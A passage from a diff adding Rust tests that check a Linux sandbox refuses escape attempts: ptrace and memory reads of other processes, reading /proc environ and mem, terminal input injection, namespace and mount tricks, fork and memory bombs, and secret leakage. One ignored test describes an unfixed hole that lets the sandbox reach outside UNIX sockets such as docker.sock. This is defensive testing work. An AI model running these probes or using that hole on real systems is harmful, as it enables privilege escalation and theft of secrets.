+        let Some(sandbox) = confined("raw_packet_netlink_and_mptcp_sockets_are_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        for (what, call) in [
+            ("raw", "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"),
+            ("raw ipv6", "socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)"),
+            ("packet", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))"),
+            ("netlink", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)"),
+            ("mptcp", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)"),
+            ("mptcp ipv6", "socket.socket(socket.AF_INET6, socket.SOCK_STREAM, 262)"),
+        ] {
+            let code = format!("import socket\n{call}\nprint('ESCAPED: {what} socket')");
+            let out = sandbox.run(dirs.python(&code)).await.unwrap();
+            let text = text(&out);
+            assert!(
+                !out.status.success() && (text.contains("[Errno 1]") || text.contains("[Errno 13]")),
+                "{what}: expected EPERM or EACCES, got {:?}:\n{text}",
+                out.status
+            );
+        }
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// Other processes
+// ---------------------------------------------------------------------------
+
+#[tokio::test]
+async fn ptrace_of_the_runner_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("ptrace_of_the_runner_is_refused", dirs.policy()).await else { return };
+        let runner = sandbox.info().pid;
+        for (request, name) in [(16, "PTRACE_ATTACH"), (0x4206, "PTRACE_SEIZE")] {
+            let code = format!(
+                "
+                pid = int(os.environ['TARGET'])
+                check(libc.ptrace({request}, pid, None, None))
+                if {request} == 16:
+                    os.waitpid(pid, 0x40000000)
+                libc.ptrace(17, pid, None, None)
+                print('ESCAPED: {name} of the runner')
+                "
+            );
+            let out = sandbox.run(dirs.python_libc(&code).env("TARGET", runner.to_string())).await.unwrap();
+            if text(&out).contains(ESCAPED) {
+                let _ = kill(Pid::from_raw(runner as i32), Signal::SIGCONT);
+            }
+            assert_refused(&out, &[EPERM, EACCES]);
+        }
+        let status = fs::read_to_string(format!("/proc/{runner}/status")).unwrap();
+        assert!(status.lines().any(|line| line == "TracerPid:\t0"), "the runner is traced:\n{status}");
+        // The runner is unharmed.
+        assert_ok(&sandbox.run(dirs.sh("echo alive")).await.unwrap());
+    })
+    .await
+}
+
+/// Reads 64 bytes of `$TARGET`'s first mapping with process_vm_readv.
+const PROCESS_VM_READV: &str = "
+    class iovec(ctypes.Structure):
+        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
+    pid = int(os.environ['TARGET'])
+    try:
+        addr = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)
+    except OSError as e:
+        print('maps:', e)
+        addr = 0x400000
+    buf = ctypes.create_string_buffer(64)
+    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
+    remote = iovec(addr, 64)
+    libc.process_vm_readv.restype = ctypes.c_ssize_t
+    n = check(libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
+    print('ESCAPED: read', n, 'bytes:', buf.raw[:n])
+";
+
+#[tokio::test]
+async fn process_vm_readv_of_the_runner_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("process_vm_readv_of_the_runner_is_refused", dirs.policy()).await else {
+            return;
+        };
+        let runner = sandbox.info().pid.to_string();
+        let out = sandbox.run(dirs.python_libc(PROCESS_VM_READV).env("TARGET", runner)).await.unwrap();
+        assert_refused(&out, &[EPERM, EACCES]);
+        // The test process (the runner's parent) neither.
+        let parent = std::process::id().to_string();
+        let out = sandbox.run(dirs.python_libc(PROCESS_VM_READV).env("TARGET", parent)).await.unwrap();
+        assert_refused(&out, &[EPERM, EACCES]);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn reading_the_parents_memory_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("reading_the_parents_memory_is_refused", dirs.policy()).await else {
+            return;
+        };
+        let parent = std::process::id().to_string();
+        let code = "
+            import os
+            pid = os.environ['TARGET']
+            maps = open(f'/proc/{pid}/maps').readline()
+            start = int(maps.split('-')[0], 16)
+            with open(f'/proc/{pid}/mem', 'rb') as mem:
+                mem.seek(start)
+                print('ESCAPED: read', mem.read(16))
+        ";
+        let out = sandbox.run(dirs.python(code).env("TARGET", &parent)).await.unwrap();
+        assert_refused(&out, &[EACCES, EPERM]);
+        for script in [
+            "head -c 16 /proc/$TARGET/mem > /dev/null",
+            "cat /proc/$TARGET/environ",
+            "cat /proc/$TARGET/maps",
+            "ls /proc/$TARGET/root/",
+            "ls /proc/$TARGET/cwd/",
+        ] {
+            let out = sandbox.run(dirs.sh(script).env("TARGET", &parent)).await.unwrap();
+            assert_refused(&out, &[EACCES, EPERM]);
+        }
+    })
+    .await
+}
+
+#[tokio::test]
+async fn signalling_a_process_outside_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let mut victim = Victim::sleep();
+        let Some(sandbox) = confined("signalling_a_process_outside_is_refused", dirs.policy()).await else {
+            return;
+        };
+        if !layer_detail(&sandbox, "landlock").is_some_and(|d| d.contains("signals scoped")) {
+            eprintln!(
+                "SKIPPED signalling_a_process_outside_is_refused: \
+                 Landlock cannot scope signals here (ABI < 6)"
+            );
+            return;
+        }
+        // Inside, signals work.
+        let out = sandbox.run(dirs.sh("sleep 30 & kill -TERM $! && wait $!; echo status=$?")).await.unwrap();
+        assert_ok(&out);
+        assert_eq!(String::from_utf8_lossy(&out.stdout), "status=143\n");
+        for signal in ["TERM", "KILL", "STOP", "0"] {
+            let script = format!("kill -{signal} $VICTIM");
+            let out = sandbox.run(dirs.sh(&script).env("VICTIM", victim.pid().to_string())).await.unwrap();
+            assert_refused(&out, &[EPERM]);
+            assert!(victim.is_running(), "kill -{signal} reached the process outside");
+        }
+        // The parent (the test process) neither; 0 only probes.
+        let parent = std::process::id().to_string();
+        let out = sandbox.run(dirs.sh("kill -0 $TARGET").env("TARGET", parent)).await.unwrap();
+        assert_refused(&out, &[EPERM]);
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// UNIX sockets and the terminal
+// ---------------------------------------------------------------------------
+
+/// Connects to the abstract socket `$NAME`.
+const CONNECT_ABSTRACT: &str = "
+    import os, socket
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect('\\0' + os.environ['NAME'])
+    s.sendall(b'hello from the sandbox')
+    print('ESCAPED: connected')
+";
+
+#[tokio::test]
+async fn connect_to_an_abstract_unix_socket_outside_is_refused() {
+    use std::os::linux::net::SocketAddrExt;
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let name = format!("cordon-escapes-{}", dirs.base.file_name().unwrap().to_str().unwrap());
+        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+        let listener = UnixListener::bind_addr(&addr).unwrap();
+        // With the network off the sandbox has its own network namespace,
+        // where abstract names are not even visible; with it on, only
+        // Landlock's scoping stands in the way.
+        for network in [false, true] {
+            let policy = dirs.workspace_write().network(network).build().unwrap();
+            let test = format!("connect_to_an_abstract_unix_socket_outside_is_refused (network {network})");
+            let Some(sandbox) = confined(&test, policy).await else { return };
+            if !layer_detail(&sandbox, "landlock").is_some_and(|d| d.contains("abstract unix sockets")) {
+                eprintln!("SKIPPED {test}: Landlock cannot scope abstract sockets here (ABI < 6)");
+                return;
+            }
+            let out = sandbox.run(dirs.python(CONNECT_ABSTRACT).env("NAME", &name)).await.unwrap();
+            let refusals: &[&str] = if network { &[EPERM] } else { &[EPERM, ECONNREFUSED] };
+            assert_refused(&out, refusals);
+            assert!(!unix_accepts(&listener), "{test}: the listener outside got a connection");
+            // One inside the sandbox is reachable.
+            let inside = "
+                import os, socket
+                name = '\\0cordon-escapes-inside-%d' % os.getpid()
+                server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                server.bind(name)
+                server.listen()
+                client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                client.connect(name)
+                print('inside ok')
+            ";
+            assert_eq!(assert_ok(&sandbox.run(dirs.python(inside)).await.unwrap()), "inside ok\n");
+        }
+    })
+    .await
+}
+
+#[tokio::test]
+#[ignore = "HOLE: a pathname UNIX socket outside the writable roots can be connected to: with the test \
+            listening on outside/sock, python3 `socket(AF_UNIX).connect(\"$OUT/sock\")` inside succeeds \
+            and the listener accepts the connection (Landlock ABI 7 has no right for connecting to UNIX \
+            sockets, and seccomp allows AF_UNIX); so would any daemon's socket the user may open \
+            (/run/docker.sock, the D-Bus buses, ssh-agent)"]
+async fn connect_to_a_pathname_unix_socket_outside_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let path = dirs.outside.join("sock");
+        let listener = UnixListener::bind(&path).unwrap();
+        let Some(sandbox) =
+            confined("connect_to_a_pathname_unix_socket_outside_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        // One in the workspace is fine.
+        let inside = "
+            import socket
+            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            server.bind('inside.sock')
+            server.listen()
+            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            client.connect('inside.sock')
+            print('inside ok')
+        ";
+        assert_eq!(assert_ok(&sandbox.run(dirs.python(inside)).await.unwrap()), "inside ok\n");
+        let code = "
+            import os, socket
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            s.connect(os.environ['SOCK'])
+            s.sendall(b'hello from the sandbox')
+            print('ESCAPED: connected')
+        ";
+        let out = sandbox.run(dirs.python(code).env("SOCK", path_str(&path))).await.unwrap();
+        let accepted = unix_accepts(&listener);
+        assert_refused(&out, &[EACCES, EPERM, ECONNREFUSED]);
+        assert!(!accepted, "the listener outside got a connection");
+    })
+    .await
+}
+
+#[tokio::test]
+async fn tiocsti_into_the_terminal_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("tiocsti_into_the_terminal_is_refused", dirs.policy()).await else {
+            return;
+        };
+        // Pushed input would be read by whatever reads the terminal next:
+        // here the script itself checks.
+        for target in ["0", "os.open('/dev/tty', os.O_RDWR)"] {
+            let code = format!(
+                "
+                import fcntl, os, select, termios
+                fd = {target}
+                fcntl.ioctl(fd, termios.TIOCSTI, b'x')
+                ready, _, _ = select.select([0], [], [], 0.5)
+                print('ESCAPED: TIOCSTI accepted;', 'input injected' if ready else 'nothing read')
+                "
+            );
+            let out = sandbox.run(dirs.python(&code).tty(Size::default())).await.unwrap();
+            assert_refused(&out, &["[Errno 1]"]);
+        }
+    })
+    .await
+}
+
+#[tokio::test]
+async fn another_terminal_cannot_be_read_or_written() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        // A terminal outside the sandbox: the user's, say.
+        let pty = nix::pty::openpty(None, None).unwrap();
+        let slave =
+            fs::read_link(format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&pty.slave))).unwrap();
+        let Some(sandbox) = confined("another_terminal_cannot_be_read_or_written", dirs.policy()).await
+        else {
+            return;
+        };
+        let code = "
+            import os, select
+            fd = os.open(os.environ['TERMINAL'], os.O_RDWR | os.O_NOCTTY)
+            os.write(fd, b'WRITTEN-FROM-THE-SANDBOX\\r\\n')
+            print('ESCAPED: opened and wrote', flush=True)
+            ready, _, _ = select.select([fd], [], [], 3)
+            if ready:
+                print('ESCAPED: read', os.read(fd, 100))
+        ";
+        let mut process = sandbox.spawn(dirs.python(code).env("TERMINAL", path_str(&slave))).await.unwrap();
+        let mut master = fs::File::from(pty.master);
+        let typed = tokio::spawn(async move {
+            tokio::time::sleep(Duration::from_millis(1000)).await;
+            std::io::Write::write_all(&mut master, b"user-password\n").unwrap();
+            master
+        });
+        let mut stdout = Vec::new();
+        let mut stderr = Vec::new();
+        let status = loop {
+            match process.next_event().await.unwrap() {
+                Some(Event::Output { stream: cordon::Stream::Stderr, data }) => stderr.extend(data),
+                Some(Event::Output { data, .. }) => stdout.extend(data),
+                Some(Event::Exited(status)) => break status,
+                _ => {}
+            }
+        };
+        let out = Output { status, stdout, stderr };
+        let master = typed.await.unwrap();
+        nix::fcntl::fcntl(&master, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK)).unwrap();
+        let mut screen = vec![0u8; 4096];
+        let n = (&master).read(&mut screen).unwrap_or(0);
+        let screen = String::from_utf8_lossy(&screen[..n]).to_string();
+        assert!(
+            !screen.contains("WRITTEN-FROM-THE-SANDBOX"),
+            "the sandbox wrote to another terminal: {screen:?}"
+        );
+        // The sandbox has its own devpts instance: the host's terminal is
+        // not even there (or, without a mount namespace, denied).
+        assert_refused(&out, &[EACCES, EPERM, "No such file or directory"]);
+        drop(pty.slave);
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// Privileges, namespaces, mounts
+// ---------------------------------------------------------------------------
+
+#[tokio::test]
+async fn setuid_binaries_and_capabilities_give_no_privileges() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        const TEST: &str = "setuid_binaries_and_capabilities_give_no_privileges";
+        // A setuid copy of id owned by someone else, made outside before
+        // launch. Only root can make one owned by another user; and the
+        // setuid bit must work here outside the sandbox, or its failing
+        // inside proves nothing.
+        let setuid_copy = if nix::unistd::geteuid().is_root() {
+            let copy = dirs.outside.join("id-setuid-nobody");
+            let id = ["/usr/bin/id", "/bin/id"].into_iter().find(|p| Path::new(p).exists()).expect("id");
+            fs::copy(id, &copy).unwrap();
+            nix::unistd::chown(
+                &copy,
+                Some(nix::unistd::Uid::from_raw(65534)),
+                Some(nix::unistd::Gid::from_raw(65534)),
+            )
+            .unwrap();
+            fs::set_permissions(&copy, fs::Permissions::from_mode(0o4755)).unwrap();
+            let outside = StdCommand::new(&copy).arg("-u").output().unwrap();
+            if String::from_utf8_lossy(&outside.stdout).trim() == "65534" {
+                Some(copy)
+            } else {
+                eprintln!(
+                    "SKIPPED part of {TEST}: a setuid binary gives nothing even outside the sandbox here \
+                     (nosuid mount?): id -u said {:?}",
+                    String::from_utf8_lossy(&outside.stdout)
+                );
+                None
+            }
+        } else {
+            eprintln!(
+                "SKIPPED part of {TEST}: not root, so no setuid binary owned by another user can be made; \
+                 only no_new_privs and the capability sets are checked"
+            );
+            None
+        };
+        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
+        let out =
+            sandbox.run(dirs.sh("grep -E '^(NoNewPrivs|Cap(Inh|Prm|Eff|Bnd|Amb)):' /proc/self/status")).await;
+        let text = assert_ok(&out.unwrap());
+        let fields: BTreeMap<&str, &str> =
+            text.lines().filter_map(|line| line.split_once(':')).map(|(k, v)| (k, v.trim())).collect();
+        assert_eq!(fields.get("NoNewPrivs"), Some(&"1"), "{text}");
+        for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+            assert_eq!(fields.get(cap), Some(&"0000000000000000"), "{cap} in\n{text}");
+        }
+        if let Some(copy) = setuid_copy {
+            let plain = assert_ok(&sandbox.run(dirs.sh("id -u")).await.unwrap());
+            let via = assert_ok(&sandbox.run(dirs.command(path_str(&copy)).arg("-u")).await.unwrap());
+            assert_ne!(via.trim(), "65534", "the setuid bit took effect inside the sandbox");
+            assert_eq!(via, plain, "the setuid copy ran with another uid");
+        }
+    })
+    .await
+}
+
+#[tokio::test]
+async fn creating_a_user_namespace_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("creating_a_user_namespace_is_refused", dirs.policy()).await else {
+            return;
+        };
+        let out = sandbox.run(dirs.sh("unshare -U true && echo ESCAPED: unshare -U")).await.unwrap();
+        assert_refused(&out, &[EPERM]);
+        let out = sandbox.run(dirs.sh("unshare -r -m true && echo ESCAPED: unshare -r -m")).await.unwrap();
+        assert_refused(&out, &[EPERM]);
+        let out = sandbox.run(dirs.python_libc("check(libc.unshare(0x10000000)); print('ESCAPED: unshare')"));
+        assert_refused(&out.await.unwrap(), &[EPERM]);
+        // clone(2) with CLONE_NEWUSER, past unshare(2) and libc's clone3.
+        let code = "
+            nr = {'x86_64': 56, 'aarch64': 220, 'riscv64': 220}[os.uname().machine]
+            pid = libc.syscall(nr, 0x10000000 | 17, 0, 0, 0, 0)
+            if pid == 0:
+                os._exit(0)
+            check(pid)
+            os.waitpid(pid, 0)
+            print('ESCAPED: clone(CLONE_NEWUSER)')
+        ";
+        assert_refused(&sandbox.run(dirs.python_libc(code)).await.unwrap(), &[EPERM]);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn mounting_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let target = dirs.workspace.join("mnt");
+        fs::create_dir(&target).unwrap();
+        let Some(sandbox) = confined("mounting_is_refused", dirs.policy()).await else { return };
+        let runner = sandbox.info().pid;
+        let out = sandbox.run(dirs.sh("mount -t tmpfs none mnt && echo ESCAPED: mounted")).await.unwrap();
+        assert_refused(&out, &[EPERM, EACCES]);
+        let code = "check(libc.mount(b'none', b'mnt', b'tmpfs', 0, None)); print('ESCAPED: mounted')";
+        assert_refused(&sandbox.run(dirs.python_libc(code)).await.unwrap(), &[EPERM]);
+        // A bind mount of something outside over the workspace neither.
+        let code =
+            "check(libc.mount(os.environ['OUT'].encode(), b'mnt', None, 4096, None)); print('ESCAPED')";
+        assert_refused(&sandbox.run(dirs.python_libc(code)).await.unwrap(), &[EPERM]);
+        assert!(!is_mount_point(&mountinfo(runner), &target), "mounted in the sandbox");
+        assert!(!is_mount_point(&mountinfo(std::process::id()), &target), "mounted outside");
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// Resource limits
+// ---------------------------------------------------------------------------
+
+#[tokio::test]
+async fn a_fork_bomb_is_stopped_by_the_process_limit() {
+    const TEST: &str = "a_fork_bomb_is_stopped_by_the_process_limit";
+    const LIMIT: usize = 64;
+    bounded("test", async {
+        let root = nix::unistd::geteuid().is_root();
+        // As root only a pids cgroup bounds the bomb (RLIMIT_NPROC does not
+        // apply to root). Never run it unbounded.
+        if root {
+            let pids = cordon_sandbox::probe().into_iter().find(|p| p.name == "cgroup v1 pids");
+            if !pids.as_ref().is_some_and(|p| p.available) {
+                eprintln!("SKIPPED {TEST}: running as root without a writable pids cgroup: {pids:?}");
+                return;
+            }
+        }
+        let dirs = Dirs::new();
+        let limits = Limits { processes: Some(LIMIT as u64), ..Limits::default() };
+        let Some(sandbox) = confined(TEST, dirs.workspace_write().limits(limits).build().unwrap()).await
+        else {
+            return;
+        };
+        let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
+        let enforced =
+            if root { detail.contains("cgroup /") } else { detail.contains("processes (per user)") };
+        if !enforced {
+            eprintln!("SKIPPED {TEST}: the limits layer does not enforce the process limit: {detail:?}");
+            return;
+        }
+        let runner = sandbox.info().pid;
+        // Count the sandbox's processes from outside while the bomb runs.
+        let stop = Arc::new(AtomicBool::new(false));
+        let peak = Arc::new(AtomicUsize::new(0));
+        let sampler = {
+            let (stop, peak) = (stop.clone(), peak.clone());
+            std::thread::spawn(move || {
+                let mut seen = std::collections::HashSet::new();
+                while !stop.load(Ordering::Relaxed) {
+                    let now = descendants(runner);
+                    peak.fetch_max(now.len() + 1, Ordering::Relaxed);
+                    seen.extend(now);
+                    std::thread::sleep(Duration::from_millis(5));
+                }
+                seen
+            })
+        };
+        let script = "i=0; while [ $i -lt 200 ]; do sleep 30 </dev/null >/dev/null 2>&1 & i=$((i+1)); done; \
+                      echo spawned $i";
+        let out = sandbox.run(dirs.sh(script)).await.unwrap();
+        // Let the sampler see the survivors too.
+        tokio::time::sleep(Duration::from_millis(200)).await;
+        let cgroup = format!("/sys/fs/cgroup/pids/cordon/runner-{runner}");
+        let events = fs::read_to_string(format!("{cgroup}/pids.events")).ok();
+        let max = fs::read_to_string(format!("{cgroup}/pids.max")).ok();
+        // Shutdown kills the bomb; whatever it missed is killed here, before
+        // any assertion can fail.
+        sandbox.shutdown().await.unwrap();
+        stop.store(true, Ordering::Relaxed);
+        let seen = tokio::task::spawn_blocking(move || sampler.join().unwrap()).await.unwrap();
+        let reaps: Vec<Reap> = seen.into_iter().map(Reap::new).collect();
+        let leftover: Vec<u32> = tokio::task::spawn_blocking(move || {
+            reaps
+                .into_iter()
+                .filter(|reap| reap.started.is_some() && !wait_gone(reap.pid))
+                .map(|r| r.pid)
+                .collect()
+        })
+        .await
+        .unwrap();
+
+        let text = assert_refused(&out, &["Cannot fork", "Resource temporarily unavailable"]);
+        assert!(!text.contains("spawned 200"), "all 200 processes started:\n{text}");
+        let peak = peak.load(Ordering::Relaxed);
+        assert!(peak <= LIMIT, "the sandbox had {peak} processes at once (limit {LIMIT})");
+        assert!(peak >= LIMIT / 2, "the bomb never got going ({peak} processes):\n{text}");
+        if let Some(max) = max {
+            assert_eq!(max.trim(), LIMIT.to_string());
+        }
+        if let Some(events) = events {
+            let hits: u64 = events.trim().strip_prefix("max ").and_then(|n| n.parse().ok()).unwrap_or(0);
+            assert!(hits > 0, "the pids cgroup never refused a fork: {events:?}");
+        }
+        // Shutdown killed the bomb, and the machine still forks.
+        assert!(leftover.is_empty(), "bomb processes outlived the sandbox (killed now): {leftover:?}");
+        assert!(StdCommand::new("true").status().unwrap().success());
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_memory_bomb_is_stopped_by_the_memory_limit() {
+    const TEST: &str = "a_memory_bomb_is_stopped_by_the_memory_limit";
+    const LIMIT: u64 = 256 << 20;
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let limits = Limits { memory: Some(LIMIT), ..Limits::default() };
+        let Some(sandbox) = confined(TEST, dirs.workspace_write().limits(limits).build().unwrap()).await
+        else {
+            return;
+        };
+        let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
+        if !detail.contains(&format!("address space={LIMIT}")) && !detail.contains("cgroup /") {
+            eprintln!("SKIPPED {TEST}: the limits layer does not enforce the memory limit: {detail:?}");
+            return;
+        }
+        // One huge allocation, then one that grows and touches its pages.
+        for code in [
+            "a = bytearray(1 << 30); print('ESCAPED: 1 GiB allocated')",
+            "
+            chunks = []
+            while len(chunks) < 128:
+                chunks.append(b'x' * (8 << 20))
+            print('ESCAPED: 1 GiB touched')
+            ",
+        ] {
+            let out = sandbox.run(dirs.python(code)).await.unwrap();
+            let text = text(&out);
+            assert!(!out.status.timed_out, "timed out:\n{text}");
+            assert!(
+                !out.status.success() && !text.contains(ESCAPED),
+                "{code}: the allocation succeeded:\n{text}"
+            );
+            assert!(
+                text.contains("MemoryError") || out.status.signal == Some(9),
+                "{code}: neither MemoryError nor killed ({:?}):\n{text}",
+                out.status
+            );
+        }
+        let runner = sandbox.info().pid;
+        if let Ok(limit) =
+            fs::read_to_string(format!("/sys/fs/cgroup/memory/cordon/runner-{runner}/memory.limit_in_bytes"))
+        {
+            assert_eq!(limit.trim(), LIMIT.to_string());
+        }
+        // The sandbox and the machine carry on.
+        assert_eq!(assert_ok(&sandbox.run(dirs.sh("echo alive")).await.unwrap()), "alive\n");
+        assert!(StdCommand::new("true").status().unwrap().success());
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// What the child inherits
+// ---------------------------------------------------------------------------
+
+#[tokio::test]
+async fn only_fds_0_1_2_reach_the_child() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("only_fds_0_1_2_reach_the_child", dirs.policy()).await else { return };
+        for tty in [None, Some(Size::default())] {
+            // ls's own directory fd is 3.
+            let mut command = dirs.command("ls").arg("/proc/self/fd");
+            if let Some(size) = tty {
+                command = command.tty(size);
+            }
+            let out = sandbox.run(command).await.unwrap();
+            let text = assert_ok(&out);
+            let fds: Vec<&str> = text.split_whitespace().collect();
+            assert_eq!(fds, ["0", "1", "2", "3"], "tty={tty:?}");
+        }
+    })
+    .await
+}
+
+/// The secret, set only in the environment of a re-run of this test binary.
+const SECRET_NAME: &str = "CORDON_ESCAPES_TEST_SECRET_TOKEN";
+const SECRET_VALUE: &str = "s3cret-7d1f0c9a";
+/// Names the test a re-run is for.
+const RERUN: &str = "CORDON_ESCAPES_RERUN";
+
+/// Whether this is the re-run of `test` with [`SECRET_NAME`] in its
+/// environment. If not, re-runs it and checks it passed.
+///
+/// Setting the variable in this process (`std::env::set_var`) would race
+/// with the other tests of this binary, which read the environment to build
+/// every command's (and whose libc may read it without Rust's lock). A fresh
+/// copy of the binary running only `test`, with the variable in its
+/// environment from the start, has no one to race with.
+async fn rerun_with_secret(test: &str) -> bool {
+    if std::env::var(RERUN).as_deref() == Ok(test) {
+        assert_eq!(std::env::var(SECRET_NAME).as_deref(), Ok(SECRET_VALUE), "the re-run has the secret");
+        return true;
+    }
+    let out = tokio::process::Command::new(std::env::current_exe().unwrap())
+        .args(["--exact", test, "--nocapture", "--test-threads=1", "--include-ignored"])
+        .env(SECRET_NAME, SECRET_VALUE)
+        .env(RERUN, test)
+        .kill_on_drop(true)
+        .output()
+        .await
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "the re-run failed ({}):\n{stdout}\n{stderr}", out.status);
+    assert!(stdout.contains("1 passed"), "the re-run did not run {test}:\n{stdout}\n{stderr}");
+    eprint!("{stderr}");
+    false
+}
+
+#[tokio::test]
+async fn secret_environment_variables_are_not_passed_to_commands() {
+    const TEST: &str = "secret_environment_variables_are_not_passed_to_commands";
+    bounded("test", async {
+        if !rerun_with_secret(TEST).await {
+            return;
+        }
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
+        let out = sandbox.run(dirs.sh("env").env("X_API_KEY", "given")).await.unwrap();
+        let text = assert_ok(&out);
+        assert!(
+            !text.contains(SECRET_NAME) && !text.contains(SECRET_VALUE),
+            "the secret reached the child:\n{text}"
+        );
+        assert!(
+            text.lines().any(|line| line == "X_API_KEY=given"),
+            "an explicit variable is passed:\n{text}"
+        );
+    })
+    .await
+}
+
+#[tokio::test]
+async fn secret_environment_variables_cannot_be_read_from_other_processes() {
+    const TEST: &str = "secret_environment_variables_cannot_be_read_from_other_processes";
+    bounded("test", async {
+        if !rerun_with_secret(TEST).await {
+            return;
+        }
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
+        for (whose, pid) in [("the runner's", sandbox.info().pid), ("the parent's", std::process::id())] {
+            let script = format!("tr '\\0' '\\n' < /proc/{pid}/environ");
+            let out = sandbox.run(dirs.sh(&script)).await.unwrap();
+            let text = text(&out);
+            let leaked: Vec<&str> = text.lines().filter(|line| line.contains(SECRET_VALUE)).collect();
+            assert!(
+                leaked.is_empty(),
+                "the secret is readable in {whose} environ (/proc/{pid}/environ): {leaked:?}"
+            );
+        }
+    })
+    .await
+}
+
+#[tokio::test]
+async fn the_handshake_token_is_invisible_to_confined_children() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) =
+            confined("the_handshake_token_is_invisible_to_confined_children", dirs.policy()).await
+        else {
+            return;
+        };
+        let runner = sandbox.info().pid;
+        let script = format!("env; tr '\\0' '\\n' < /proc/{runner}/environ");
+        let out = sandbox.run(dirs.sh(&script)).await.unwrap();
+        let text = assert_ok(&out);
+        let mut seen = 0;
+        for line in text.lines() {
+            if let Some(value) = line.strip_prefix(&format!("{TOKEN_ENV}=")) {
+                seen += 1;
+                assert!(value.bytes().all(|b| b == b'0'), "token visible to a child: {line}");
+            }
+        }
+        // Only the runner's environ had it (overwritten); the child's own has none.
+        assert!(seen <= 1, "{text}");
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// Outliving the sandbox
+// ---------------------------------------------------------------------------
+
+/// Starts a daemon (double fork, `setsid`) inside, under a launching shell
+/// that keeps a plain child (`sleep`) too; returns the launching process,
+/// the daemon's pid, and every process the sandbox then has (the runner's
+/// descendants), each guarded so the test never leaves one behind.
+async fn start_daemon(sandbox: &Sandbox, dirs: &Dirs) -> (cordon::Process, u32, Vec<Reap>) {
+    let script = "(setsid sh -c 'sleep 300 & echo $! > daemon.pid; exit 0' &); echo started; sleep 300";
+    let mut process = sandbox.spawn(dirs.sh(script).timeout(Duration::from_secs(120))).await.unwrap();
+    read_until(&mut process, "started").await;
+    let pid_file = dirs.workspace.join("daemon.pid");
+    let daemon = tokio::task::spawn_blocking(move || read_pid_file(&pid_file)).await.unwrap();
+    assert!(!is_gone(daemon), "the daemon runs");
+    let tree: Vec<Reap> = descendants(sandbox.info().pid).into_iter().map(Reap::new).collect();
+    assert!(tree.iter().any(|reap| reap.pid == daemon), "the daemon descends from the runner");
+    (process, daemon, tree)
+}
+
+/// The guarded processes still running after up to 10 s, as
+/// `pid (command line) now a child of ppid`; they are killed when the
+/// guards drop.
+async fn survivors(tree: &[Reap]) -> Vec<String> {
+    let pids: Vec<(u32, Option<u64>)> = tree.iter().map(|reap| (reap.pid, reap.started)).collect();
+    let alive = move || -> Vec<u32> {
+        pids.iter()
+            .filter(|&&(pid, started)| started.is_some() && !is_gone(pid) && start_time(pid) == started)
+            .map(|&(pid, _)| pid)
+            .collect()
+    };
+    tokio::task::spawn_blocking(move || {
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        let mut left = alive();
+        while !left.is_empty() && std::time::Instant::now() < deadline {
+            std::thread::sleep(Duration::from_millis(20));
+            left = alive();
+        }
+        left.into_iter()
+            .map(|pid| {
+                let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+                let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
+                let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
